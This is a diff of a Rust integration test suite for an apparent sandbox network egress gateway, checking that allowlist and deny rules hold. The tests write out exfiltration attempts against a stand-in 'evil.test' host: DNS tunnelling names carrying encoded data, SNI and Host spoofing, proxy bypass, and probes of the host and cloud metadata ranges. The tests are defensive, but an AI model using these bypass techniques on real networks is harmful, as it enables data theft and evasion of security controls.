@@ -136,10 +136,19 @@ extern "C" fn tear_down() {
     }
     if let Some(net) = INTERNET.get() {
         let _ = Command::new("docker")
-            .args(["rm", "-f", &format!("{}-pypi", net.tag), &format!("{}-evil", net.tag)])
+            .args([
+                "rm",
+                "-f",
+                &format!("{}-pypi", net.tag),
+                &format!("{}-evil", net.tag),
+            ])
             .output();
-        let _ = Command::new("docker").args(["network", "rm", &net.network]).output();
-        let _ = Command::new("docker").args(["rmi", "-f", &net.image]).output();
+        let _ = Command::new("docker")
+            .args(["network", "rm", &net.network])
+            .output();
+        let _ = Command::new("docker")
+            .args(["rmi", "-f", &net.image])
+            .output();
         let _ = std::fs::remove_dir_all(&net.dir);
     }
 }
@@ -151,26 +160,74 @@ fn openssl(dir: &Path, args: &[&str]) {
 fn internet() -> &'static Internet {
     INTERNET.get_or_init(|| {
         common::images();
-        assert!(
-            Command::new("docker")
-                .args(["image", "inspect", "corral-test/net"])
-                .output()
-                .is_ok_and(|o| o.status.success()),
-            "these tests need corral-test/net: scripts/build-test-images.sh --net"
+        let script = concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../../scripts/build-test-images.sh"
         );
+        run(Command::new("bash").args([script, "--net"]));
         // SAFETY: registering a plain extern "C" function with no captured state.
         unsafe { libc::atexit(tear_down) };
         let tag = format!("corral-egtest-{}", std::process::id());
         let dir = std::env::temp_dir().join(&tag);
         std::fs::create_dir_all(&dir).expect("temp dir");
-        openssl(&dir, &["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.crt", "-days", "2", "-subj", "/CN=corral test CA"]);
-        openssl(&dir, &["req", "-newkey", "rsa:2048", "-nodes", "-keyout", "server.key", "-out", "server.csr", "-subj", "/CN=pypi.test"]);
+        openssl(
+            &dir,
+            &[
+                "req",
+                "-x509",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-keyout",
+                "ca.key",
+                "-out",
+                "ca.crt",
+                "-days",
+                "2",
+                "-subj",
+                "/CN=corral test CA",
+            ],
+        );
+        openssl(
+            &dir,
+            &[
+                "req",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-keyout",
+                "server.key",
+                "-out",
+                "server.csr",
+                "-subj",
+                "/CN=pypi.test",
+            ],
+        );
         std::fs::write(
             dir.join("san.ext"),
             "subjectAltName=DNS:pypi.test,DNS:mirror.test,DNS:evil.test\n",
         )
         .expect("write san");
-        openssl(&dir, &["x509", "-req", "-in", "server.csr", "-CA", "ca.crt", "-CAkey", "ca.key", "-CAcreateserial", "-out", "server.crt", "-days", "2", "-extfile", "san.ext"]);
+        openssl(
+            &dir,
+            &[
+                "x509",
+                "-req",
+                "-in",
+                "server.csr",
+                "-CA",
+                "ca.crt",
+                "-CAkey",
+                "ca.key",
+                "-CAcreateserial",
+                "-out",
+                "server.crt",
+                "-days",
+                "2",
+                "-extfile",
+                "san.ext",
+            ],
+        );
         std::fs::write(dir.join("serve.py"), SERVER).expect("write server");
         std::fs::write(
             dir.join("Dockerfile"),
@@ -180,18 +237,38 @@ fn internet() -> &'static Internet {
         )
         .expect("write Dockerfile");
         let image = format!("{tag}-image");
-        docker(&["build", "-q", "-t", &image, dir.to_str().expect("utf-8 path")]);
+        docker(&[
+            "build",
+            "-q",
+            "-t",
+            &image,
+            dir.to_str().expect("utf-8 path"),
+        ]);
         let network = format!("{tag}-inet");
         docker(&["network", "create", "--label", "corral.egtest=1", &network]);
         let server = |who: &str, aliases: &[&str]| {
             let name = format!("{tag}-{who}");
-            let mut args = vec!["run", "-d", "--name", &name, "--label", "corral.egtest=1", "--network", &network];
+            let mut args = vec![
+                "run",
+                "-d",
+                "--name",
+                &name,
+                "--label",
+                "corral.egtest=1",
+                "--network",
+                &network,
+            ];
             for a in aliases {
                 args.extend(["--network-alias", a]);
             }
             args.extend([image.as_str(), "python3", "/certs/serve.py", who]);
             docker(&args);
-            docker(&["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", &name])
+            docker(&[
+                "inspect",
+                "-f",
+                "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+                &name,
+            ])
         };
         let pypi_ip = server("pypi", &["pypi.test", "mirror.test"]);
         let evil_ip = server("evil", &["evil.test"]);
@@ -215,7 +292,8 @@ fn policy(allow: &[&str], deny: &[&str]) -> Network {
 
 struct Sb {
     closed: bool,
-    runtime: Runtime,
+    /// Kept for the sandbox's life: it owns the sandbox's watch and reaper.
+    _runtime: Runtime,
     backend: Arc<DockerBackend>,
     sandbox: Sandbox,
 }
@@ -241,14 +319,18 @@ impl Sb {
         }
         Sb {
             closed: false,
-            runtime,
+            _runtime: runtime,
             backend,
             sandbox,
         }
     }
 
     async fn new() -> Sb {
-        Sb::with(policy(&["pypi.test", "mirror.test:8443"], &["169.254.0.0/16"])).await
+        Sb::with(policy(
+            &["pypi.test", "mirror.test:8443"],
+            &["169.254.0.0/16"],
+        ))
+        .await
     }
 
     /// Runs `script`; returns stdout+stderr and the exit code.
@@ -257,7 +339,10 @@ impl Sb {
             .sandbox
             .run(&CommandSpec::shell(format!("{script} 2>&1")).timeout(Duration::from_secs(60)))
             .await;
-        (String::from_utf8_lossy(&r.stdout).into_owned(), r.exit_code.unwrap_or(-1))
+        (
+            String::from_utf8_lossy(&r.stdout).into_owned(),
+            r.exit_code.unwrap_or(-1),
+        )
     }
 
     async fn stats(&self) -> corral_docker::egress::EgressStats {
@@ -299,16 +384,30 @@ fn curl(args: &str) -> String {
 async fn allowed_names_work_over_http_and_https() {
     let sb = Sb::new().await;
     let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
-    assert_eq!((out.as_str(), rc), ("hello from pypi (Host pypi.test)\n", 0));
+    assert_eq!(
+        (out.as_str(), rc),
+        ("hello from pypi (Host pypi.test)\n", 0)
+    );
     let (out, rc) = sb.sh(&curl("http://pypi.test/")).await;
-    assert_eq!((out.as_str(), rc), ("hello from pypi (Host pypi.test)\n", 0));
+    assert_eq!(
+        (out.as_str(), rc),
+        ("hello from pypi (Host pypi.test)\n", 0)
+    );
     // A rule's own port, TLS verified against the test CA: not terminated.
     let (out, rc) = sb.sh(&curl("https://mirror.test:8443/")).await;
-    assert_eq!((out.as_str(), rc), ("hello from pypi (Host mirror.test:8443)\n", 0));
+    assert_eq!(
+        (out.as_str(), rc),
+        ("hello from pypi (Host mirror.test:8443)\n", 0)
+    );
     let (out, _) = sb
-        .sh(&curl("-v https://pypi.test/ -o /dev/null 2>&1 | grep -i 'issuer'"))
+        .sh(&curl(
+            "-v https://pypi.test/ -o /dev/null 2>&1 | grep -i 'issuer'",
+        ))
         .await;
-    assert!(out.contains("corral test CA"), "the server's own certificate: {out}");
+    assert!(
+        out.contains("corral test CA"),
+        "the server's own certificate: {out}"
+    );
     let stats = sb.stats().await;
     assert!(stats.connections_allowed >= 4, "{stats:?}");
     assert_eq!(stats.connections_refused, 0, "{stats:?}");
@@ -319,9 +418,11 @@ async fn allowed_names_work_over_http_and_https() {
 async fn pip_installs_from_the_local_index() {
     let sb = Sb::new().await;
     let (out, rc) = sb
-        .sh("pip install --no-cache-dir --disable-pip-version-check --target /tmp/site \
+        .sh(
+            "pip install --no-cache-dir --disable-pip-version-check --target /tmp/site \
              --index-url https://pypi.test/simple tinypkg && \
-             PYTHONPATH=/tmp/site python3 -c 'import tinypkg; print(tinypkg.GREETING)'")
+             PYTHONPATH=/tmp/site python3 -c 'import tinypkg; print(tinypkg.GREETING)'",
+        )
         .await;
     assert_eq!(rc, 0, "{out}");
     assert!(out.ends_with("tinypkg from the local index\n"), "{out}");
@@ -385,7 +486,9 @@ async fn another_port_is_refused() {
     let (out, rc) = sb.sh(&curl("http://pypi.test:8080/")).await;
     assert_eq!(rc, 7, "{out}");
     assert!(out.contains("Couldn't connect to server"), "{out}");
-    let (out, rc) = sb.sh(&curl(&format!("http://{}:22/", internet().pypi_ip))).await;
+    let (out, rc) = sb
+        .sh(&curl(&format!("http://{}:22/", internet().pypi_ip)))
+        .await;
     assert_eq!(rc, 7, "{out}");
     sb.close().await;
 }
@@ -407,7 +510,9 @@ print('aaaa', socket.getaddrinfo('pypi.test', 443, socket.AF_INET6) if False els
 \"")
         .await;
     assert!(out.starts_with("refused"), "{out}");
-    let (out, _) = sb.sh("cat /proc/net/if_inet6 | grep -v ' lo$' | wc -l").await;
+    let (out, _) = sb
+        .sh("cat /proc/net/if_inet6 | grep -v ' lo$' | wc -l")
+        .await;
     assert_eq!(out.trim(), "0", "no IPv6 address but loopback");
     sb.close().await;
 }
@@ -426,7 +531,11 @@ async fn udp_and_quic_have_no_route() {
     let sb = Sb::new().await;
     let net = internet();
     // QUIC is UDP 443; the gateway's own address answers DNS only.
-    for (ip, port) in [(net.evil_ip.as_str(), "443"), (net.pypi_ip.as_str(), "443"), ("8.8.8.8", "443")] {
+    for (ip, port) in [
+        (net.evil_ip.as_str(), "443"),
+        (net.pypi_ip.as_str(), "443"),
+        ("8.8.8.8", "443"),
+    ] {
         let (out, _) = sb.sh(&format!("{UDP} {ip} {port}")).await;
         // evil.test echoes UDP on 443 and 53: a datagram that got there
         // would be answered.
@@ -462,10 +571,16 @@ async fn dns_to_another_resolver_has_no_route() {
 #[tokio::test(flavor = "multi_thread")]
 async fn dns_tunnelling_through_the_resolver_gets_nothing() {
     let sb = Sb::new().await;
-    let (resolver, _) = sb.sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf").await;
+    let (resolver, _) = sb
+        .sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf")
+        .await;
     let resolver = resolver.trim();
     // Data smuggled in names of a domain not allowed: NXDOMAIN, from the gateway.
-    for name in ["c2VjcmV0.evil.test", "exfil.data.example.com", "x.pypi.test"] {
+    for name in [
+        "c2VjcmV0.evil.test",
+        "exfil.data.example.com",
+        "x.pypi.test",
+    ] {
         let (out, _) = sb.sh(&format!("{DIG} {resolver} {name} 1")).await;
         assert!(out.starts_with("rcode 3 answers 0"), "{name}: {out}");
     }
@@ -479,7 +594,10 @@ async fn dns_tunnelling_through_the_resolver_gets_nothing() {
     assert!(out.starts_with("rcode 0 answers 1"), "{out}");
     let stats = sb.stats().await;
     assert!(
-        stats.recent_refusals.iter().any(|r| r == "dns c2vjcmv0.evil.test"),
+        stats
+            .recent_refusals
+            .iter()
+            .any(|r| r == "dns c2vjcmv0.evil.test"),
         "{stats:?}"
     );
     sb.close().await;
@@ -491,18 +609,26 @@ async fn sni_or_host_of_an_allowed_name_gets_nowhere_else() {
     let net = internet();
     // SNI and Host of pypi.test, connecting to evil's address: no route.
     let (out, rc) = sb
-        .sh(&curl(&format!("--resolve pypi.test:443:{} https://pypi.test/", net.evil_ip)))
+        .sh(&curl(&format!(
+            "--resolve pypi.test:443:{} https://pypi.test/",
+            net.evil_ip
+        )))
         .await;
     assert_eq!(rc, 7, "{out}");
     let (out, rc) = sb
-        .sh(&curl(&format!("-H 'Host: pypi.test' http://{}/", net.evil_ip)))
+        .sh(&curl(&format!(
+            "-H 'Host: pypi.test' http://{}/",
+            net.evil_ip
+        )))
         .await;
     assert_eq!(rc, 7, "{out}");
     // SNI of evil.test sent to the gateway (the address pypi.test resolves to).
     let (gw, _) = sb.sh("getent hosts pypi.test | cut -d' ' -f1").await;
     let gw = gw.trim();
     let (out, rc) = sb
-        .sh(&curl(&format!("--resolve evil.test:443:{gw} https://evil.test/")))
+        .sh(&curl(&format!(
+            "--resolve evil.test:443:{gw} https://evil.test/"
+        )))
         .await;
     assert_ne!(rc, 0, "{out}");
     assert!(out.contains("access denied"), "{out}");
@@ -533,11 +659,17 @@ async fn a_commands_own_http_proxy_gets_nowhere() {
     assert_eq!(rc, 7, "{out}");
     // The gateway used as a forward proxy: absolute URLs and CONNECT refused.
     let (out, _) = sb
-        .sh(&format!("http_proxy=http://pypi.test:80 {}", curl("http://evil.test/")))
+        .sh(&format!(
+            "http_proxy=http://pypi.test:80 {}",
+            curl("http://evil.test/")
+        ))
         .await;
     assert!(out.contains("proxy request"), "{out}");
     let (out, rc) = sb
-        .sh(&format!("HTTPS_PROXY=http://pypi.test:80 {}", curl("https://evil.test/")))
+        .sh(&format!(
+            "HTTPS_PROXY=http://pypi.test:80 {}",
+            curl("https://evil.test/")
+        ))
         .await;
     assert_ne!(rc, 0, "{out}");
     assert!(!out.contains("hello from evil"), "{out}");
@@ -548,7 +680,11 @@ async fn a_commands_own_http_proxy_gets_nowhere() {
 async fn deny_wins_and_cidrs_bound_where_names_lead() {
     let net = internet();
     // pypi.test is allowed by name but its address is denied.
-    let sb = Sb::with(policy(&["pypi.test", "evil.test"], &[&format!("{}/32", net.pypi_ip), "evil.test"])).await;
+    let sb = Sb::with(policy(
+        &["pypi.test", "evil.test"],
+        &[&format!("{}/32", net.pypi_ip), "evil.test"],
+    ))
+    .await;
     let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
     assert_ne!(rc, 0, "{out}");
     assert!(out.contains("access denied"), "{out}");
@@ -578,10 +714,15 @@ async fn the_host_behind_the_internal_network_is_not_reachable() {
             let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nhost-reached\n");
         }
     });
-    let (host, _) = sb.sh("ip=$(hostname -i | cut -d' ' -f1); echo ${ip%.*}.1").await;
+    let (host, _) = sb
+        .sh("ip=$(hostname -i | cut -d' ' -f1); echo ${ip%.*}.1")
+        .await;
     let host = host.trim();
     let (out, rc) = sb.sh(&curl(&format!("http://{host}:{port}/"))).await;
-    assert!(!out.contains("host-reached"), "reached the host at {host}: {out}");
+    assert!(
+        !out.contains("host-reached"),
+        "reached the host at {host}: {out}"
+    );
     assert_ne!(rc, 0, "{out}");
     sb.close().await;
 }
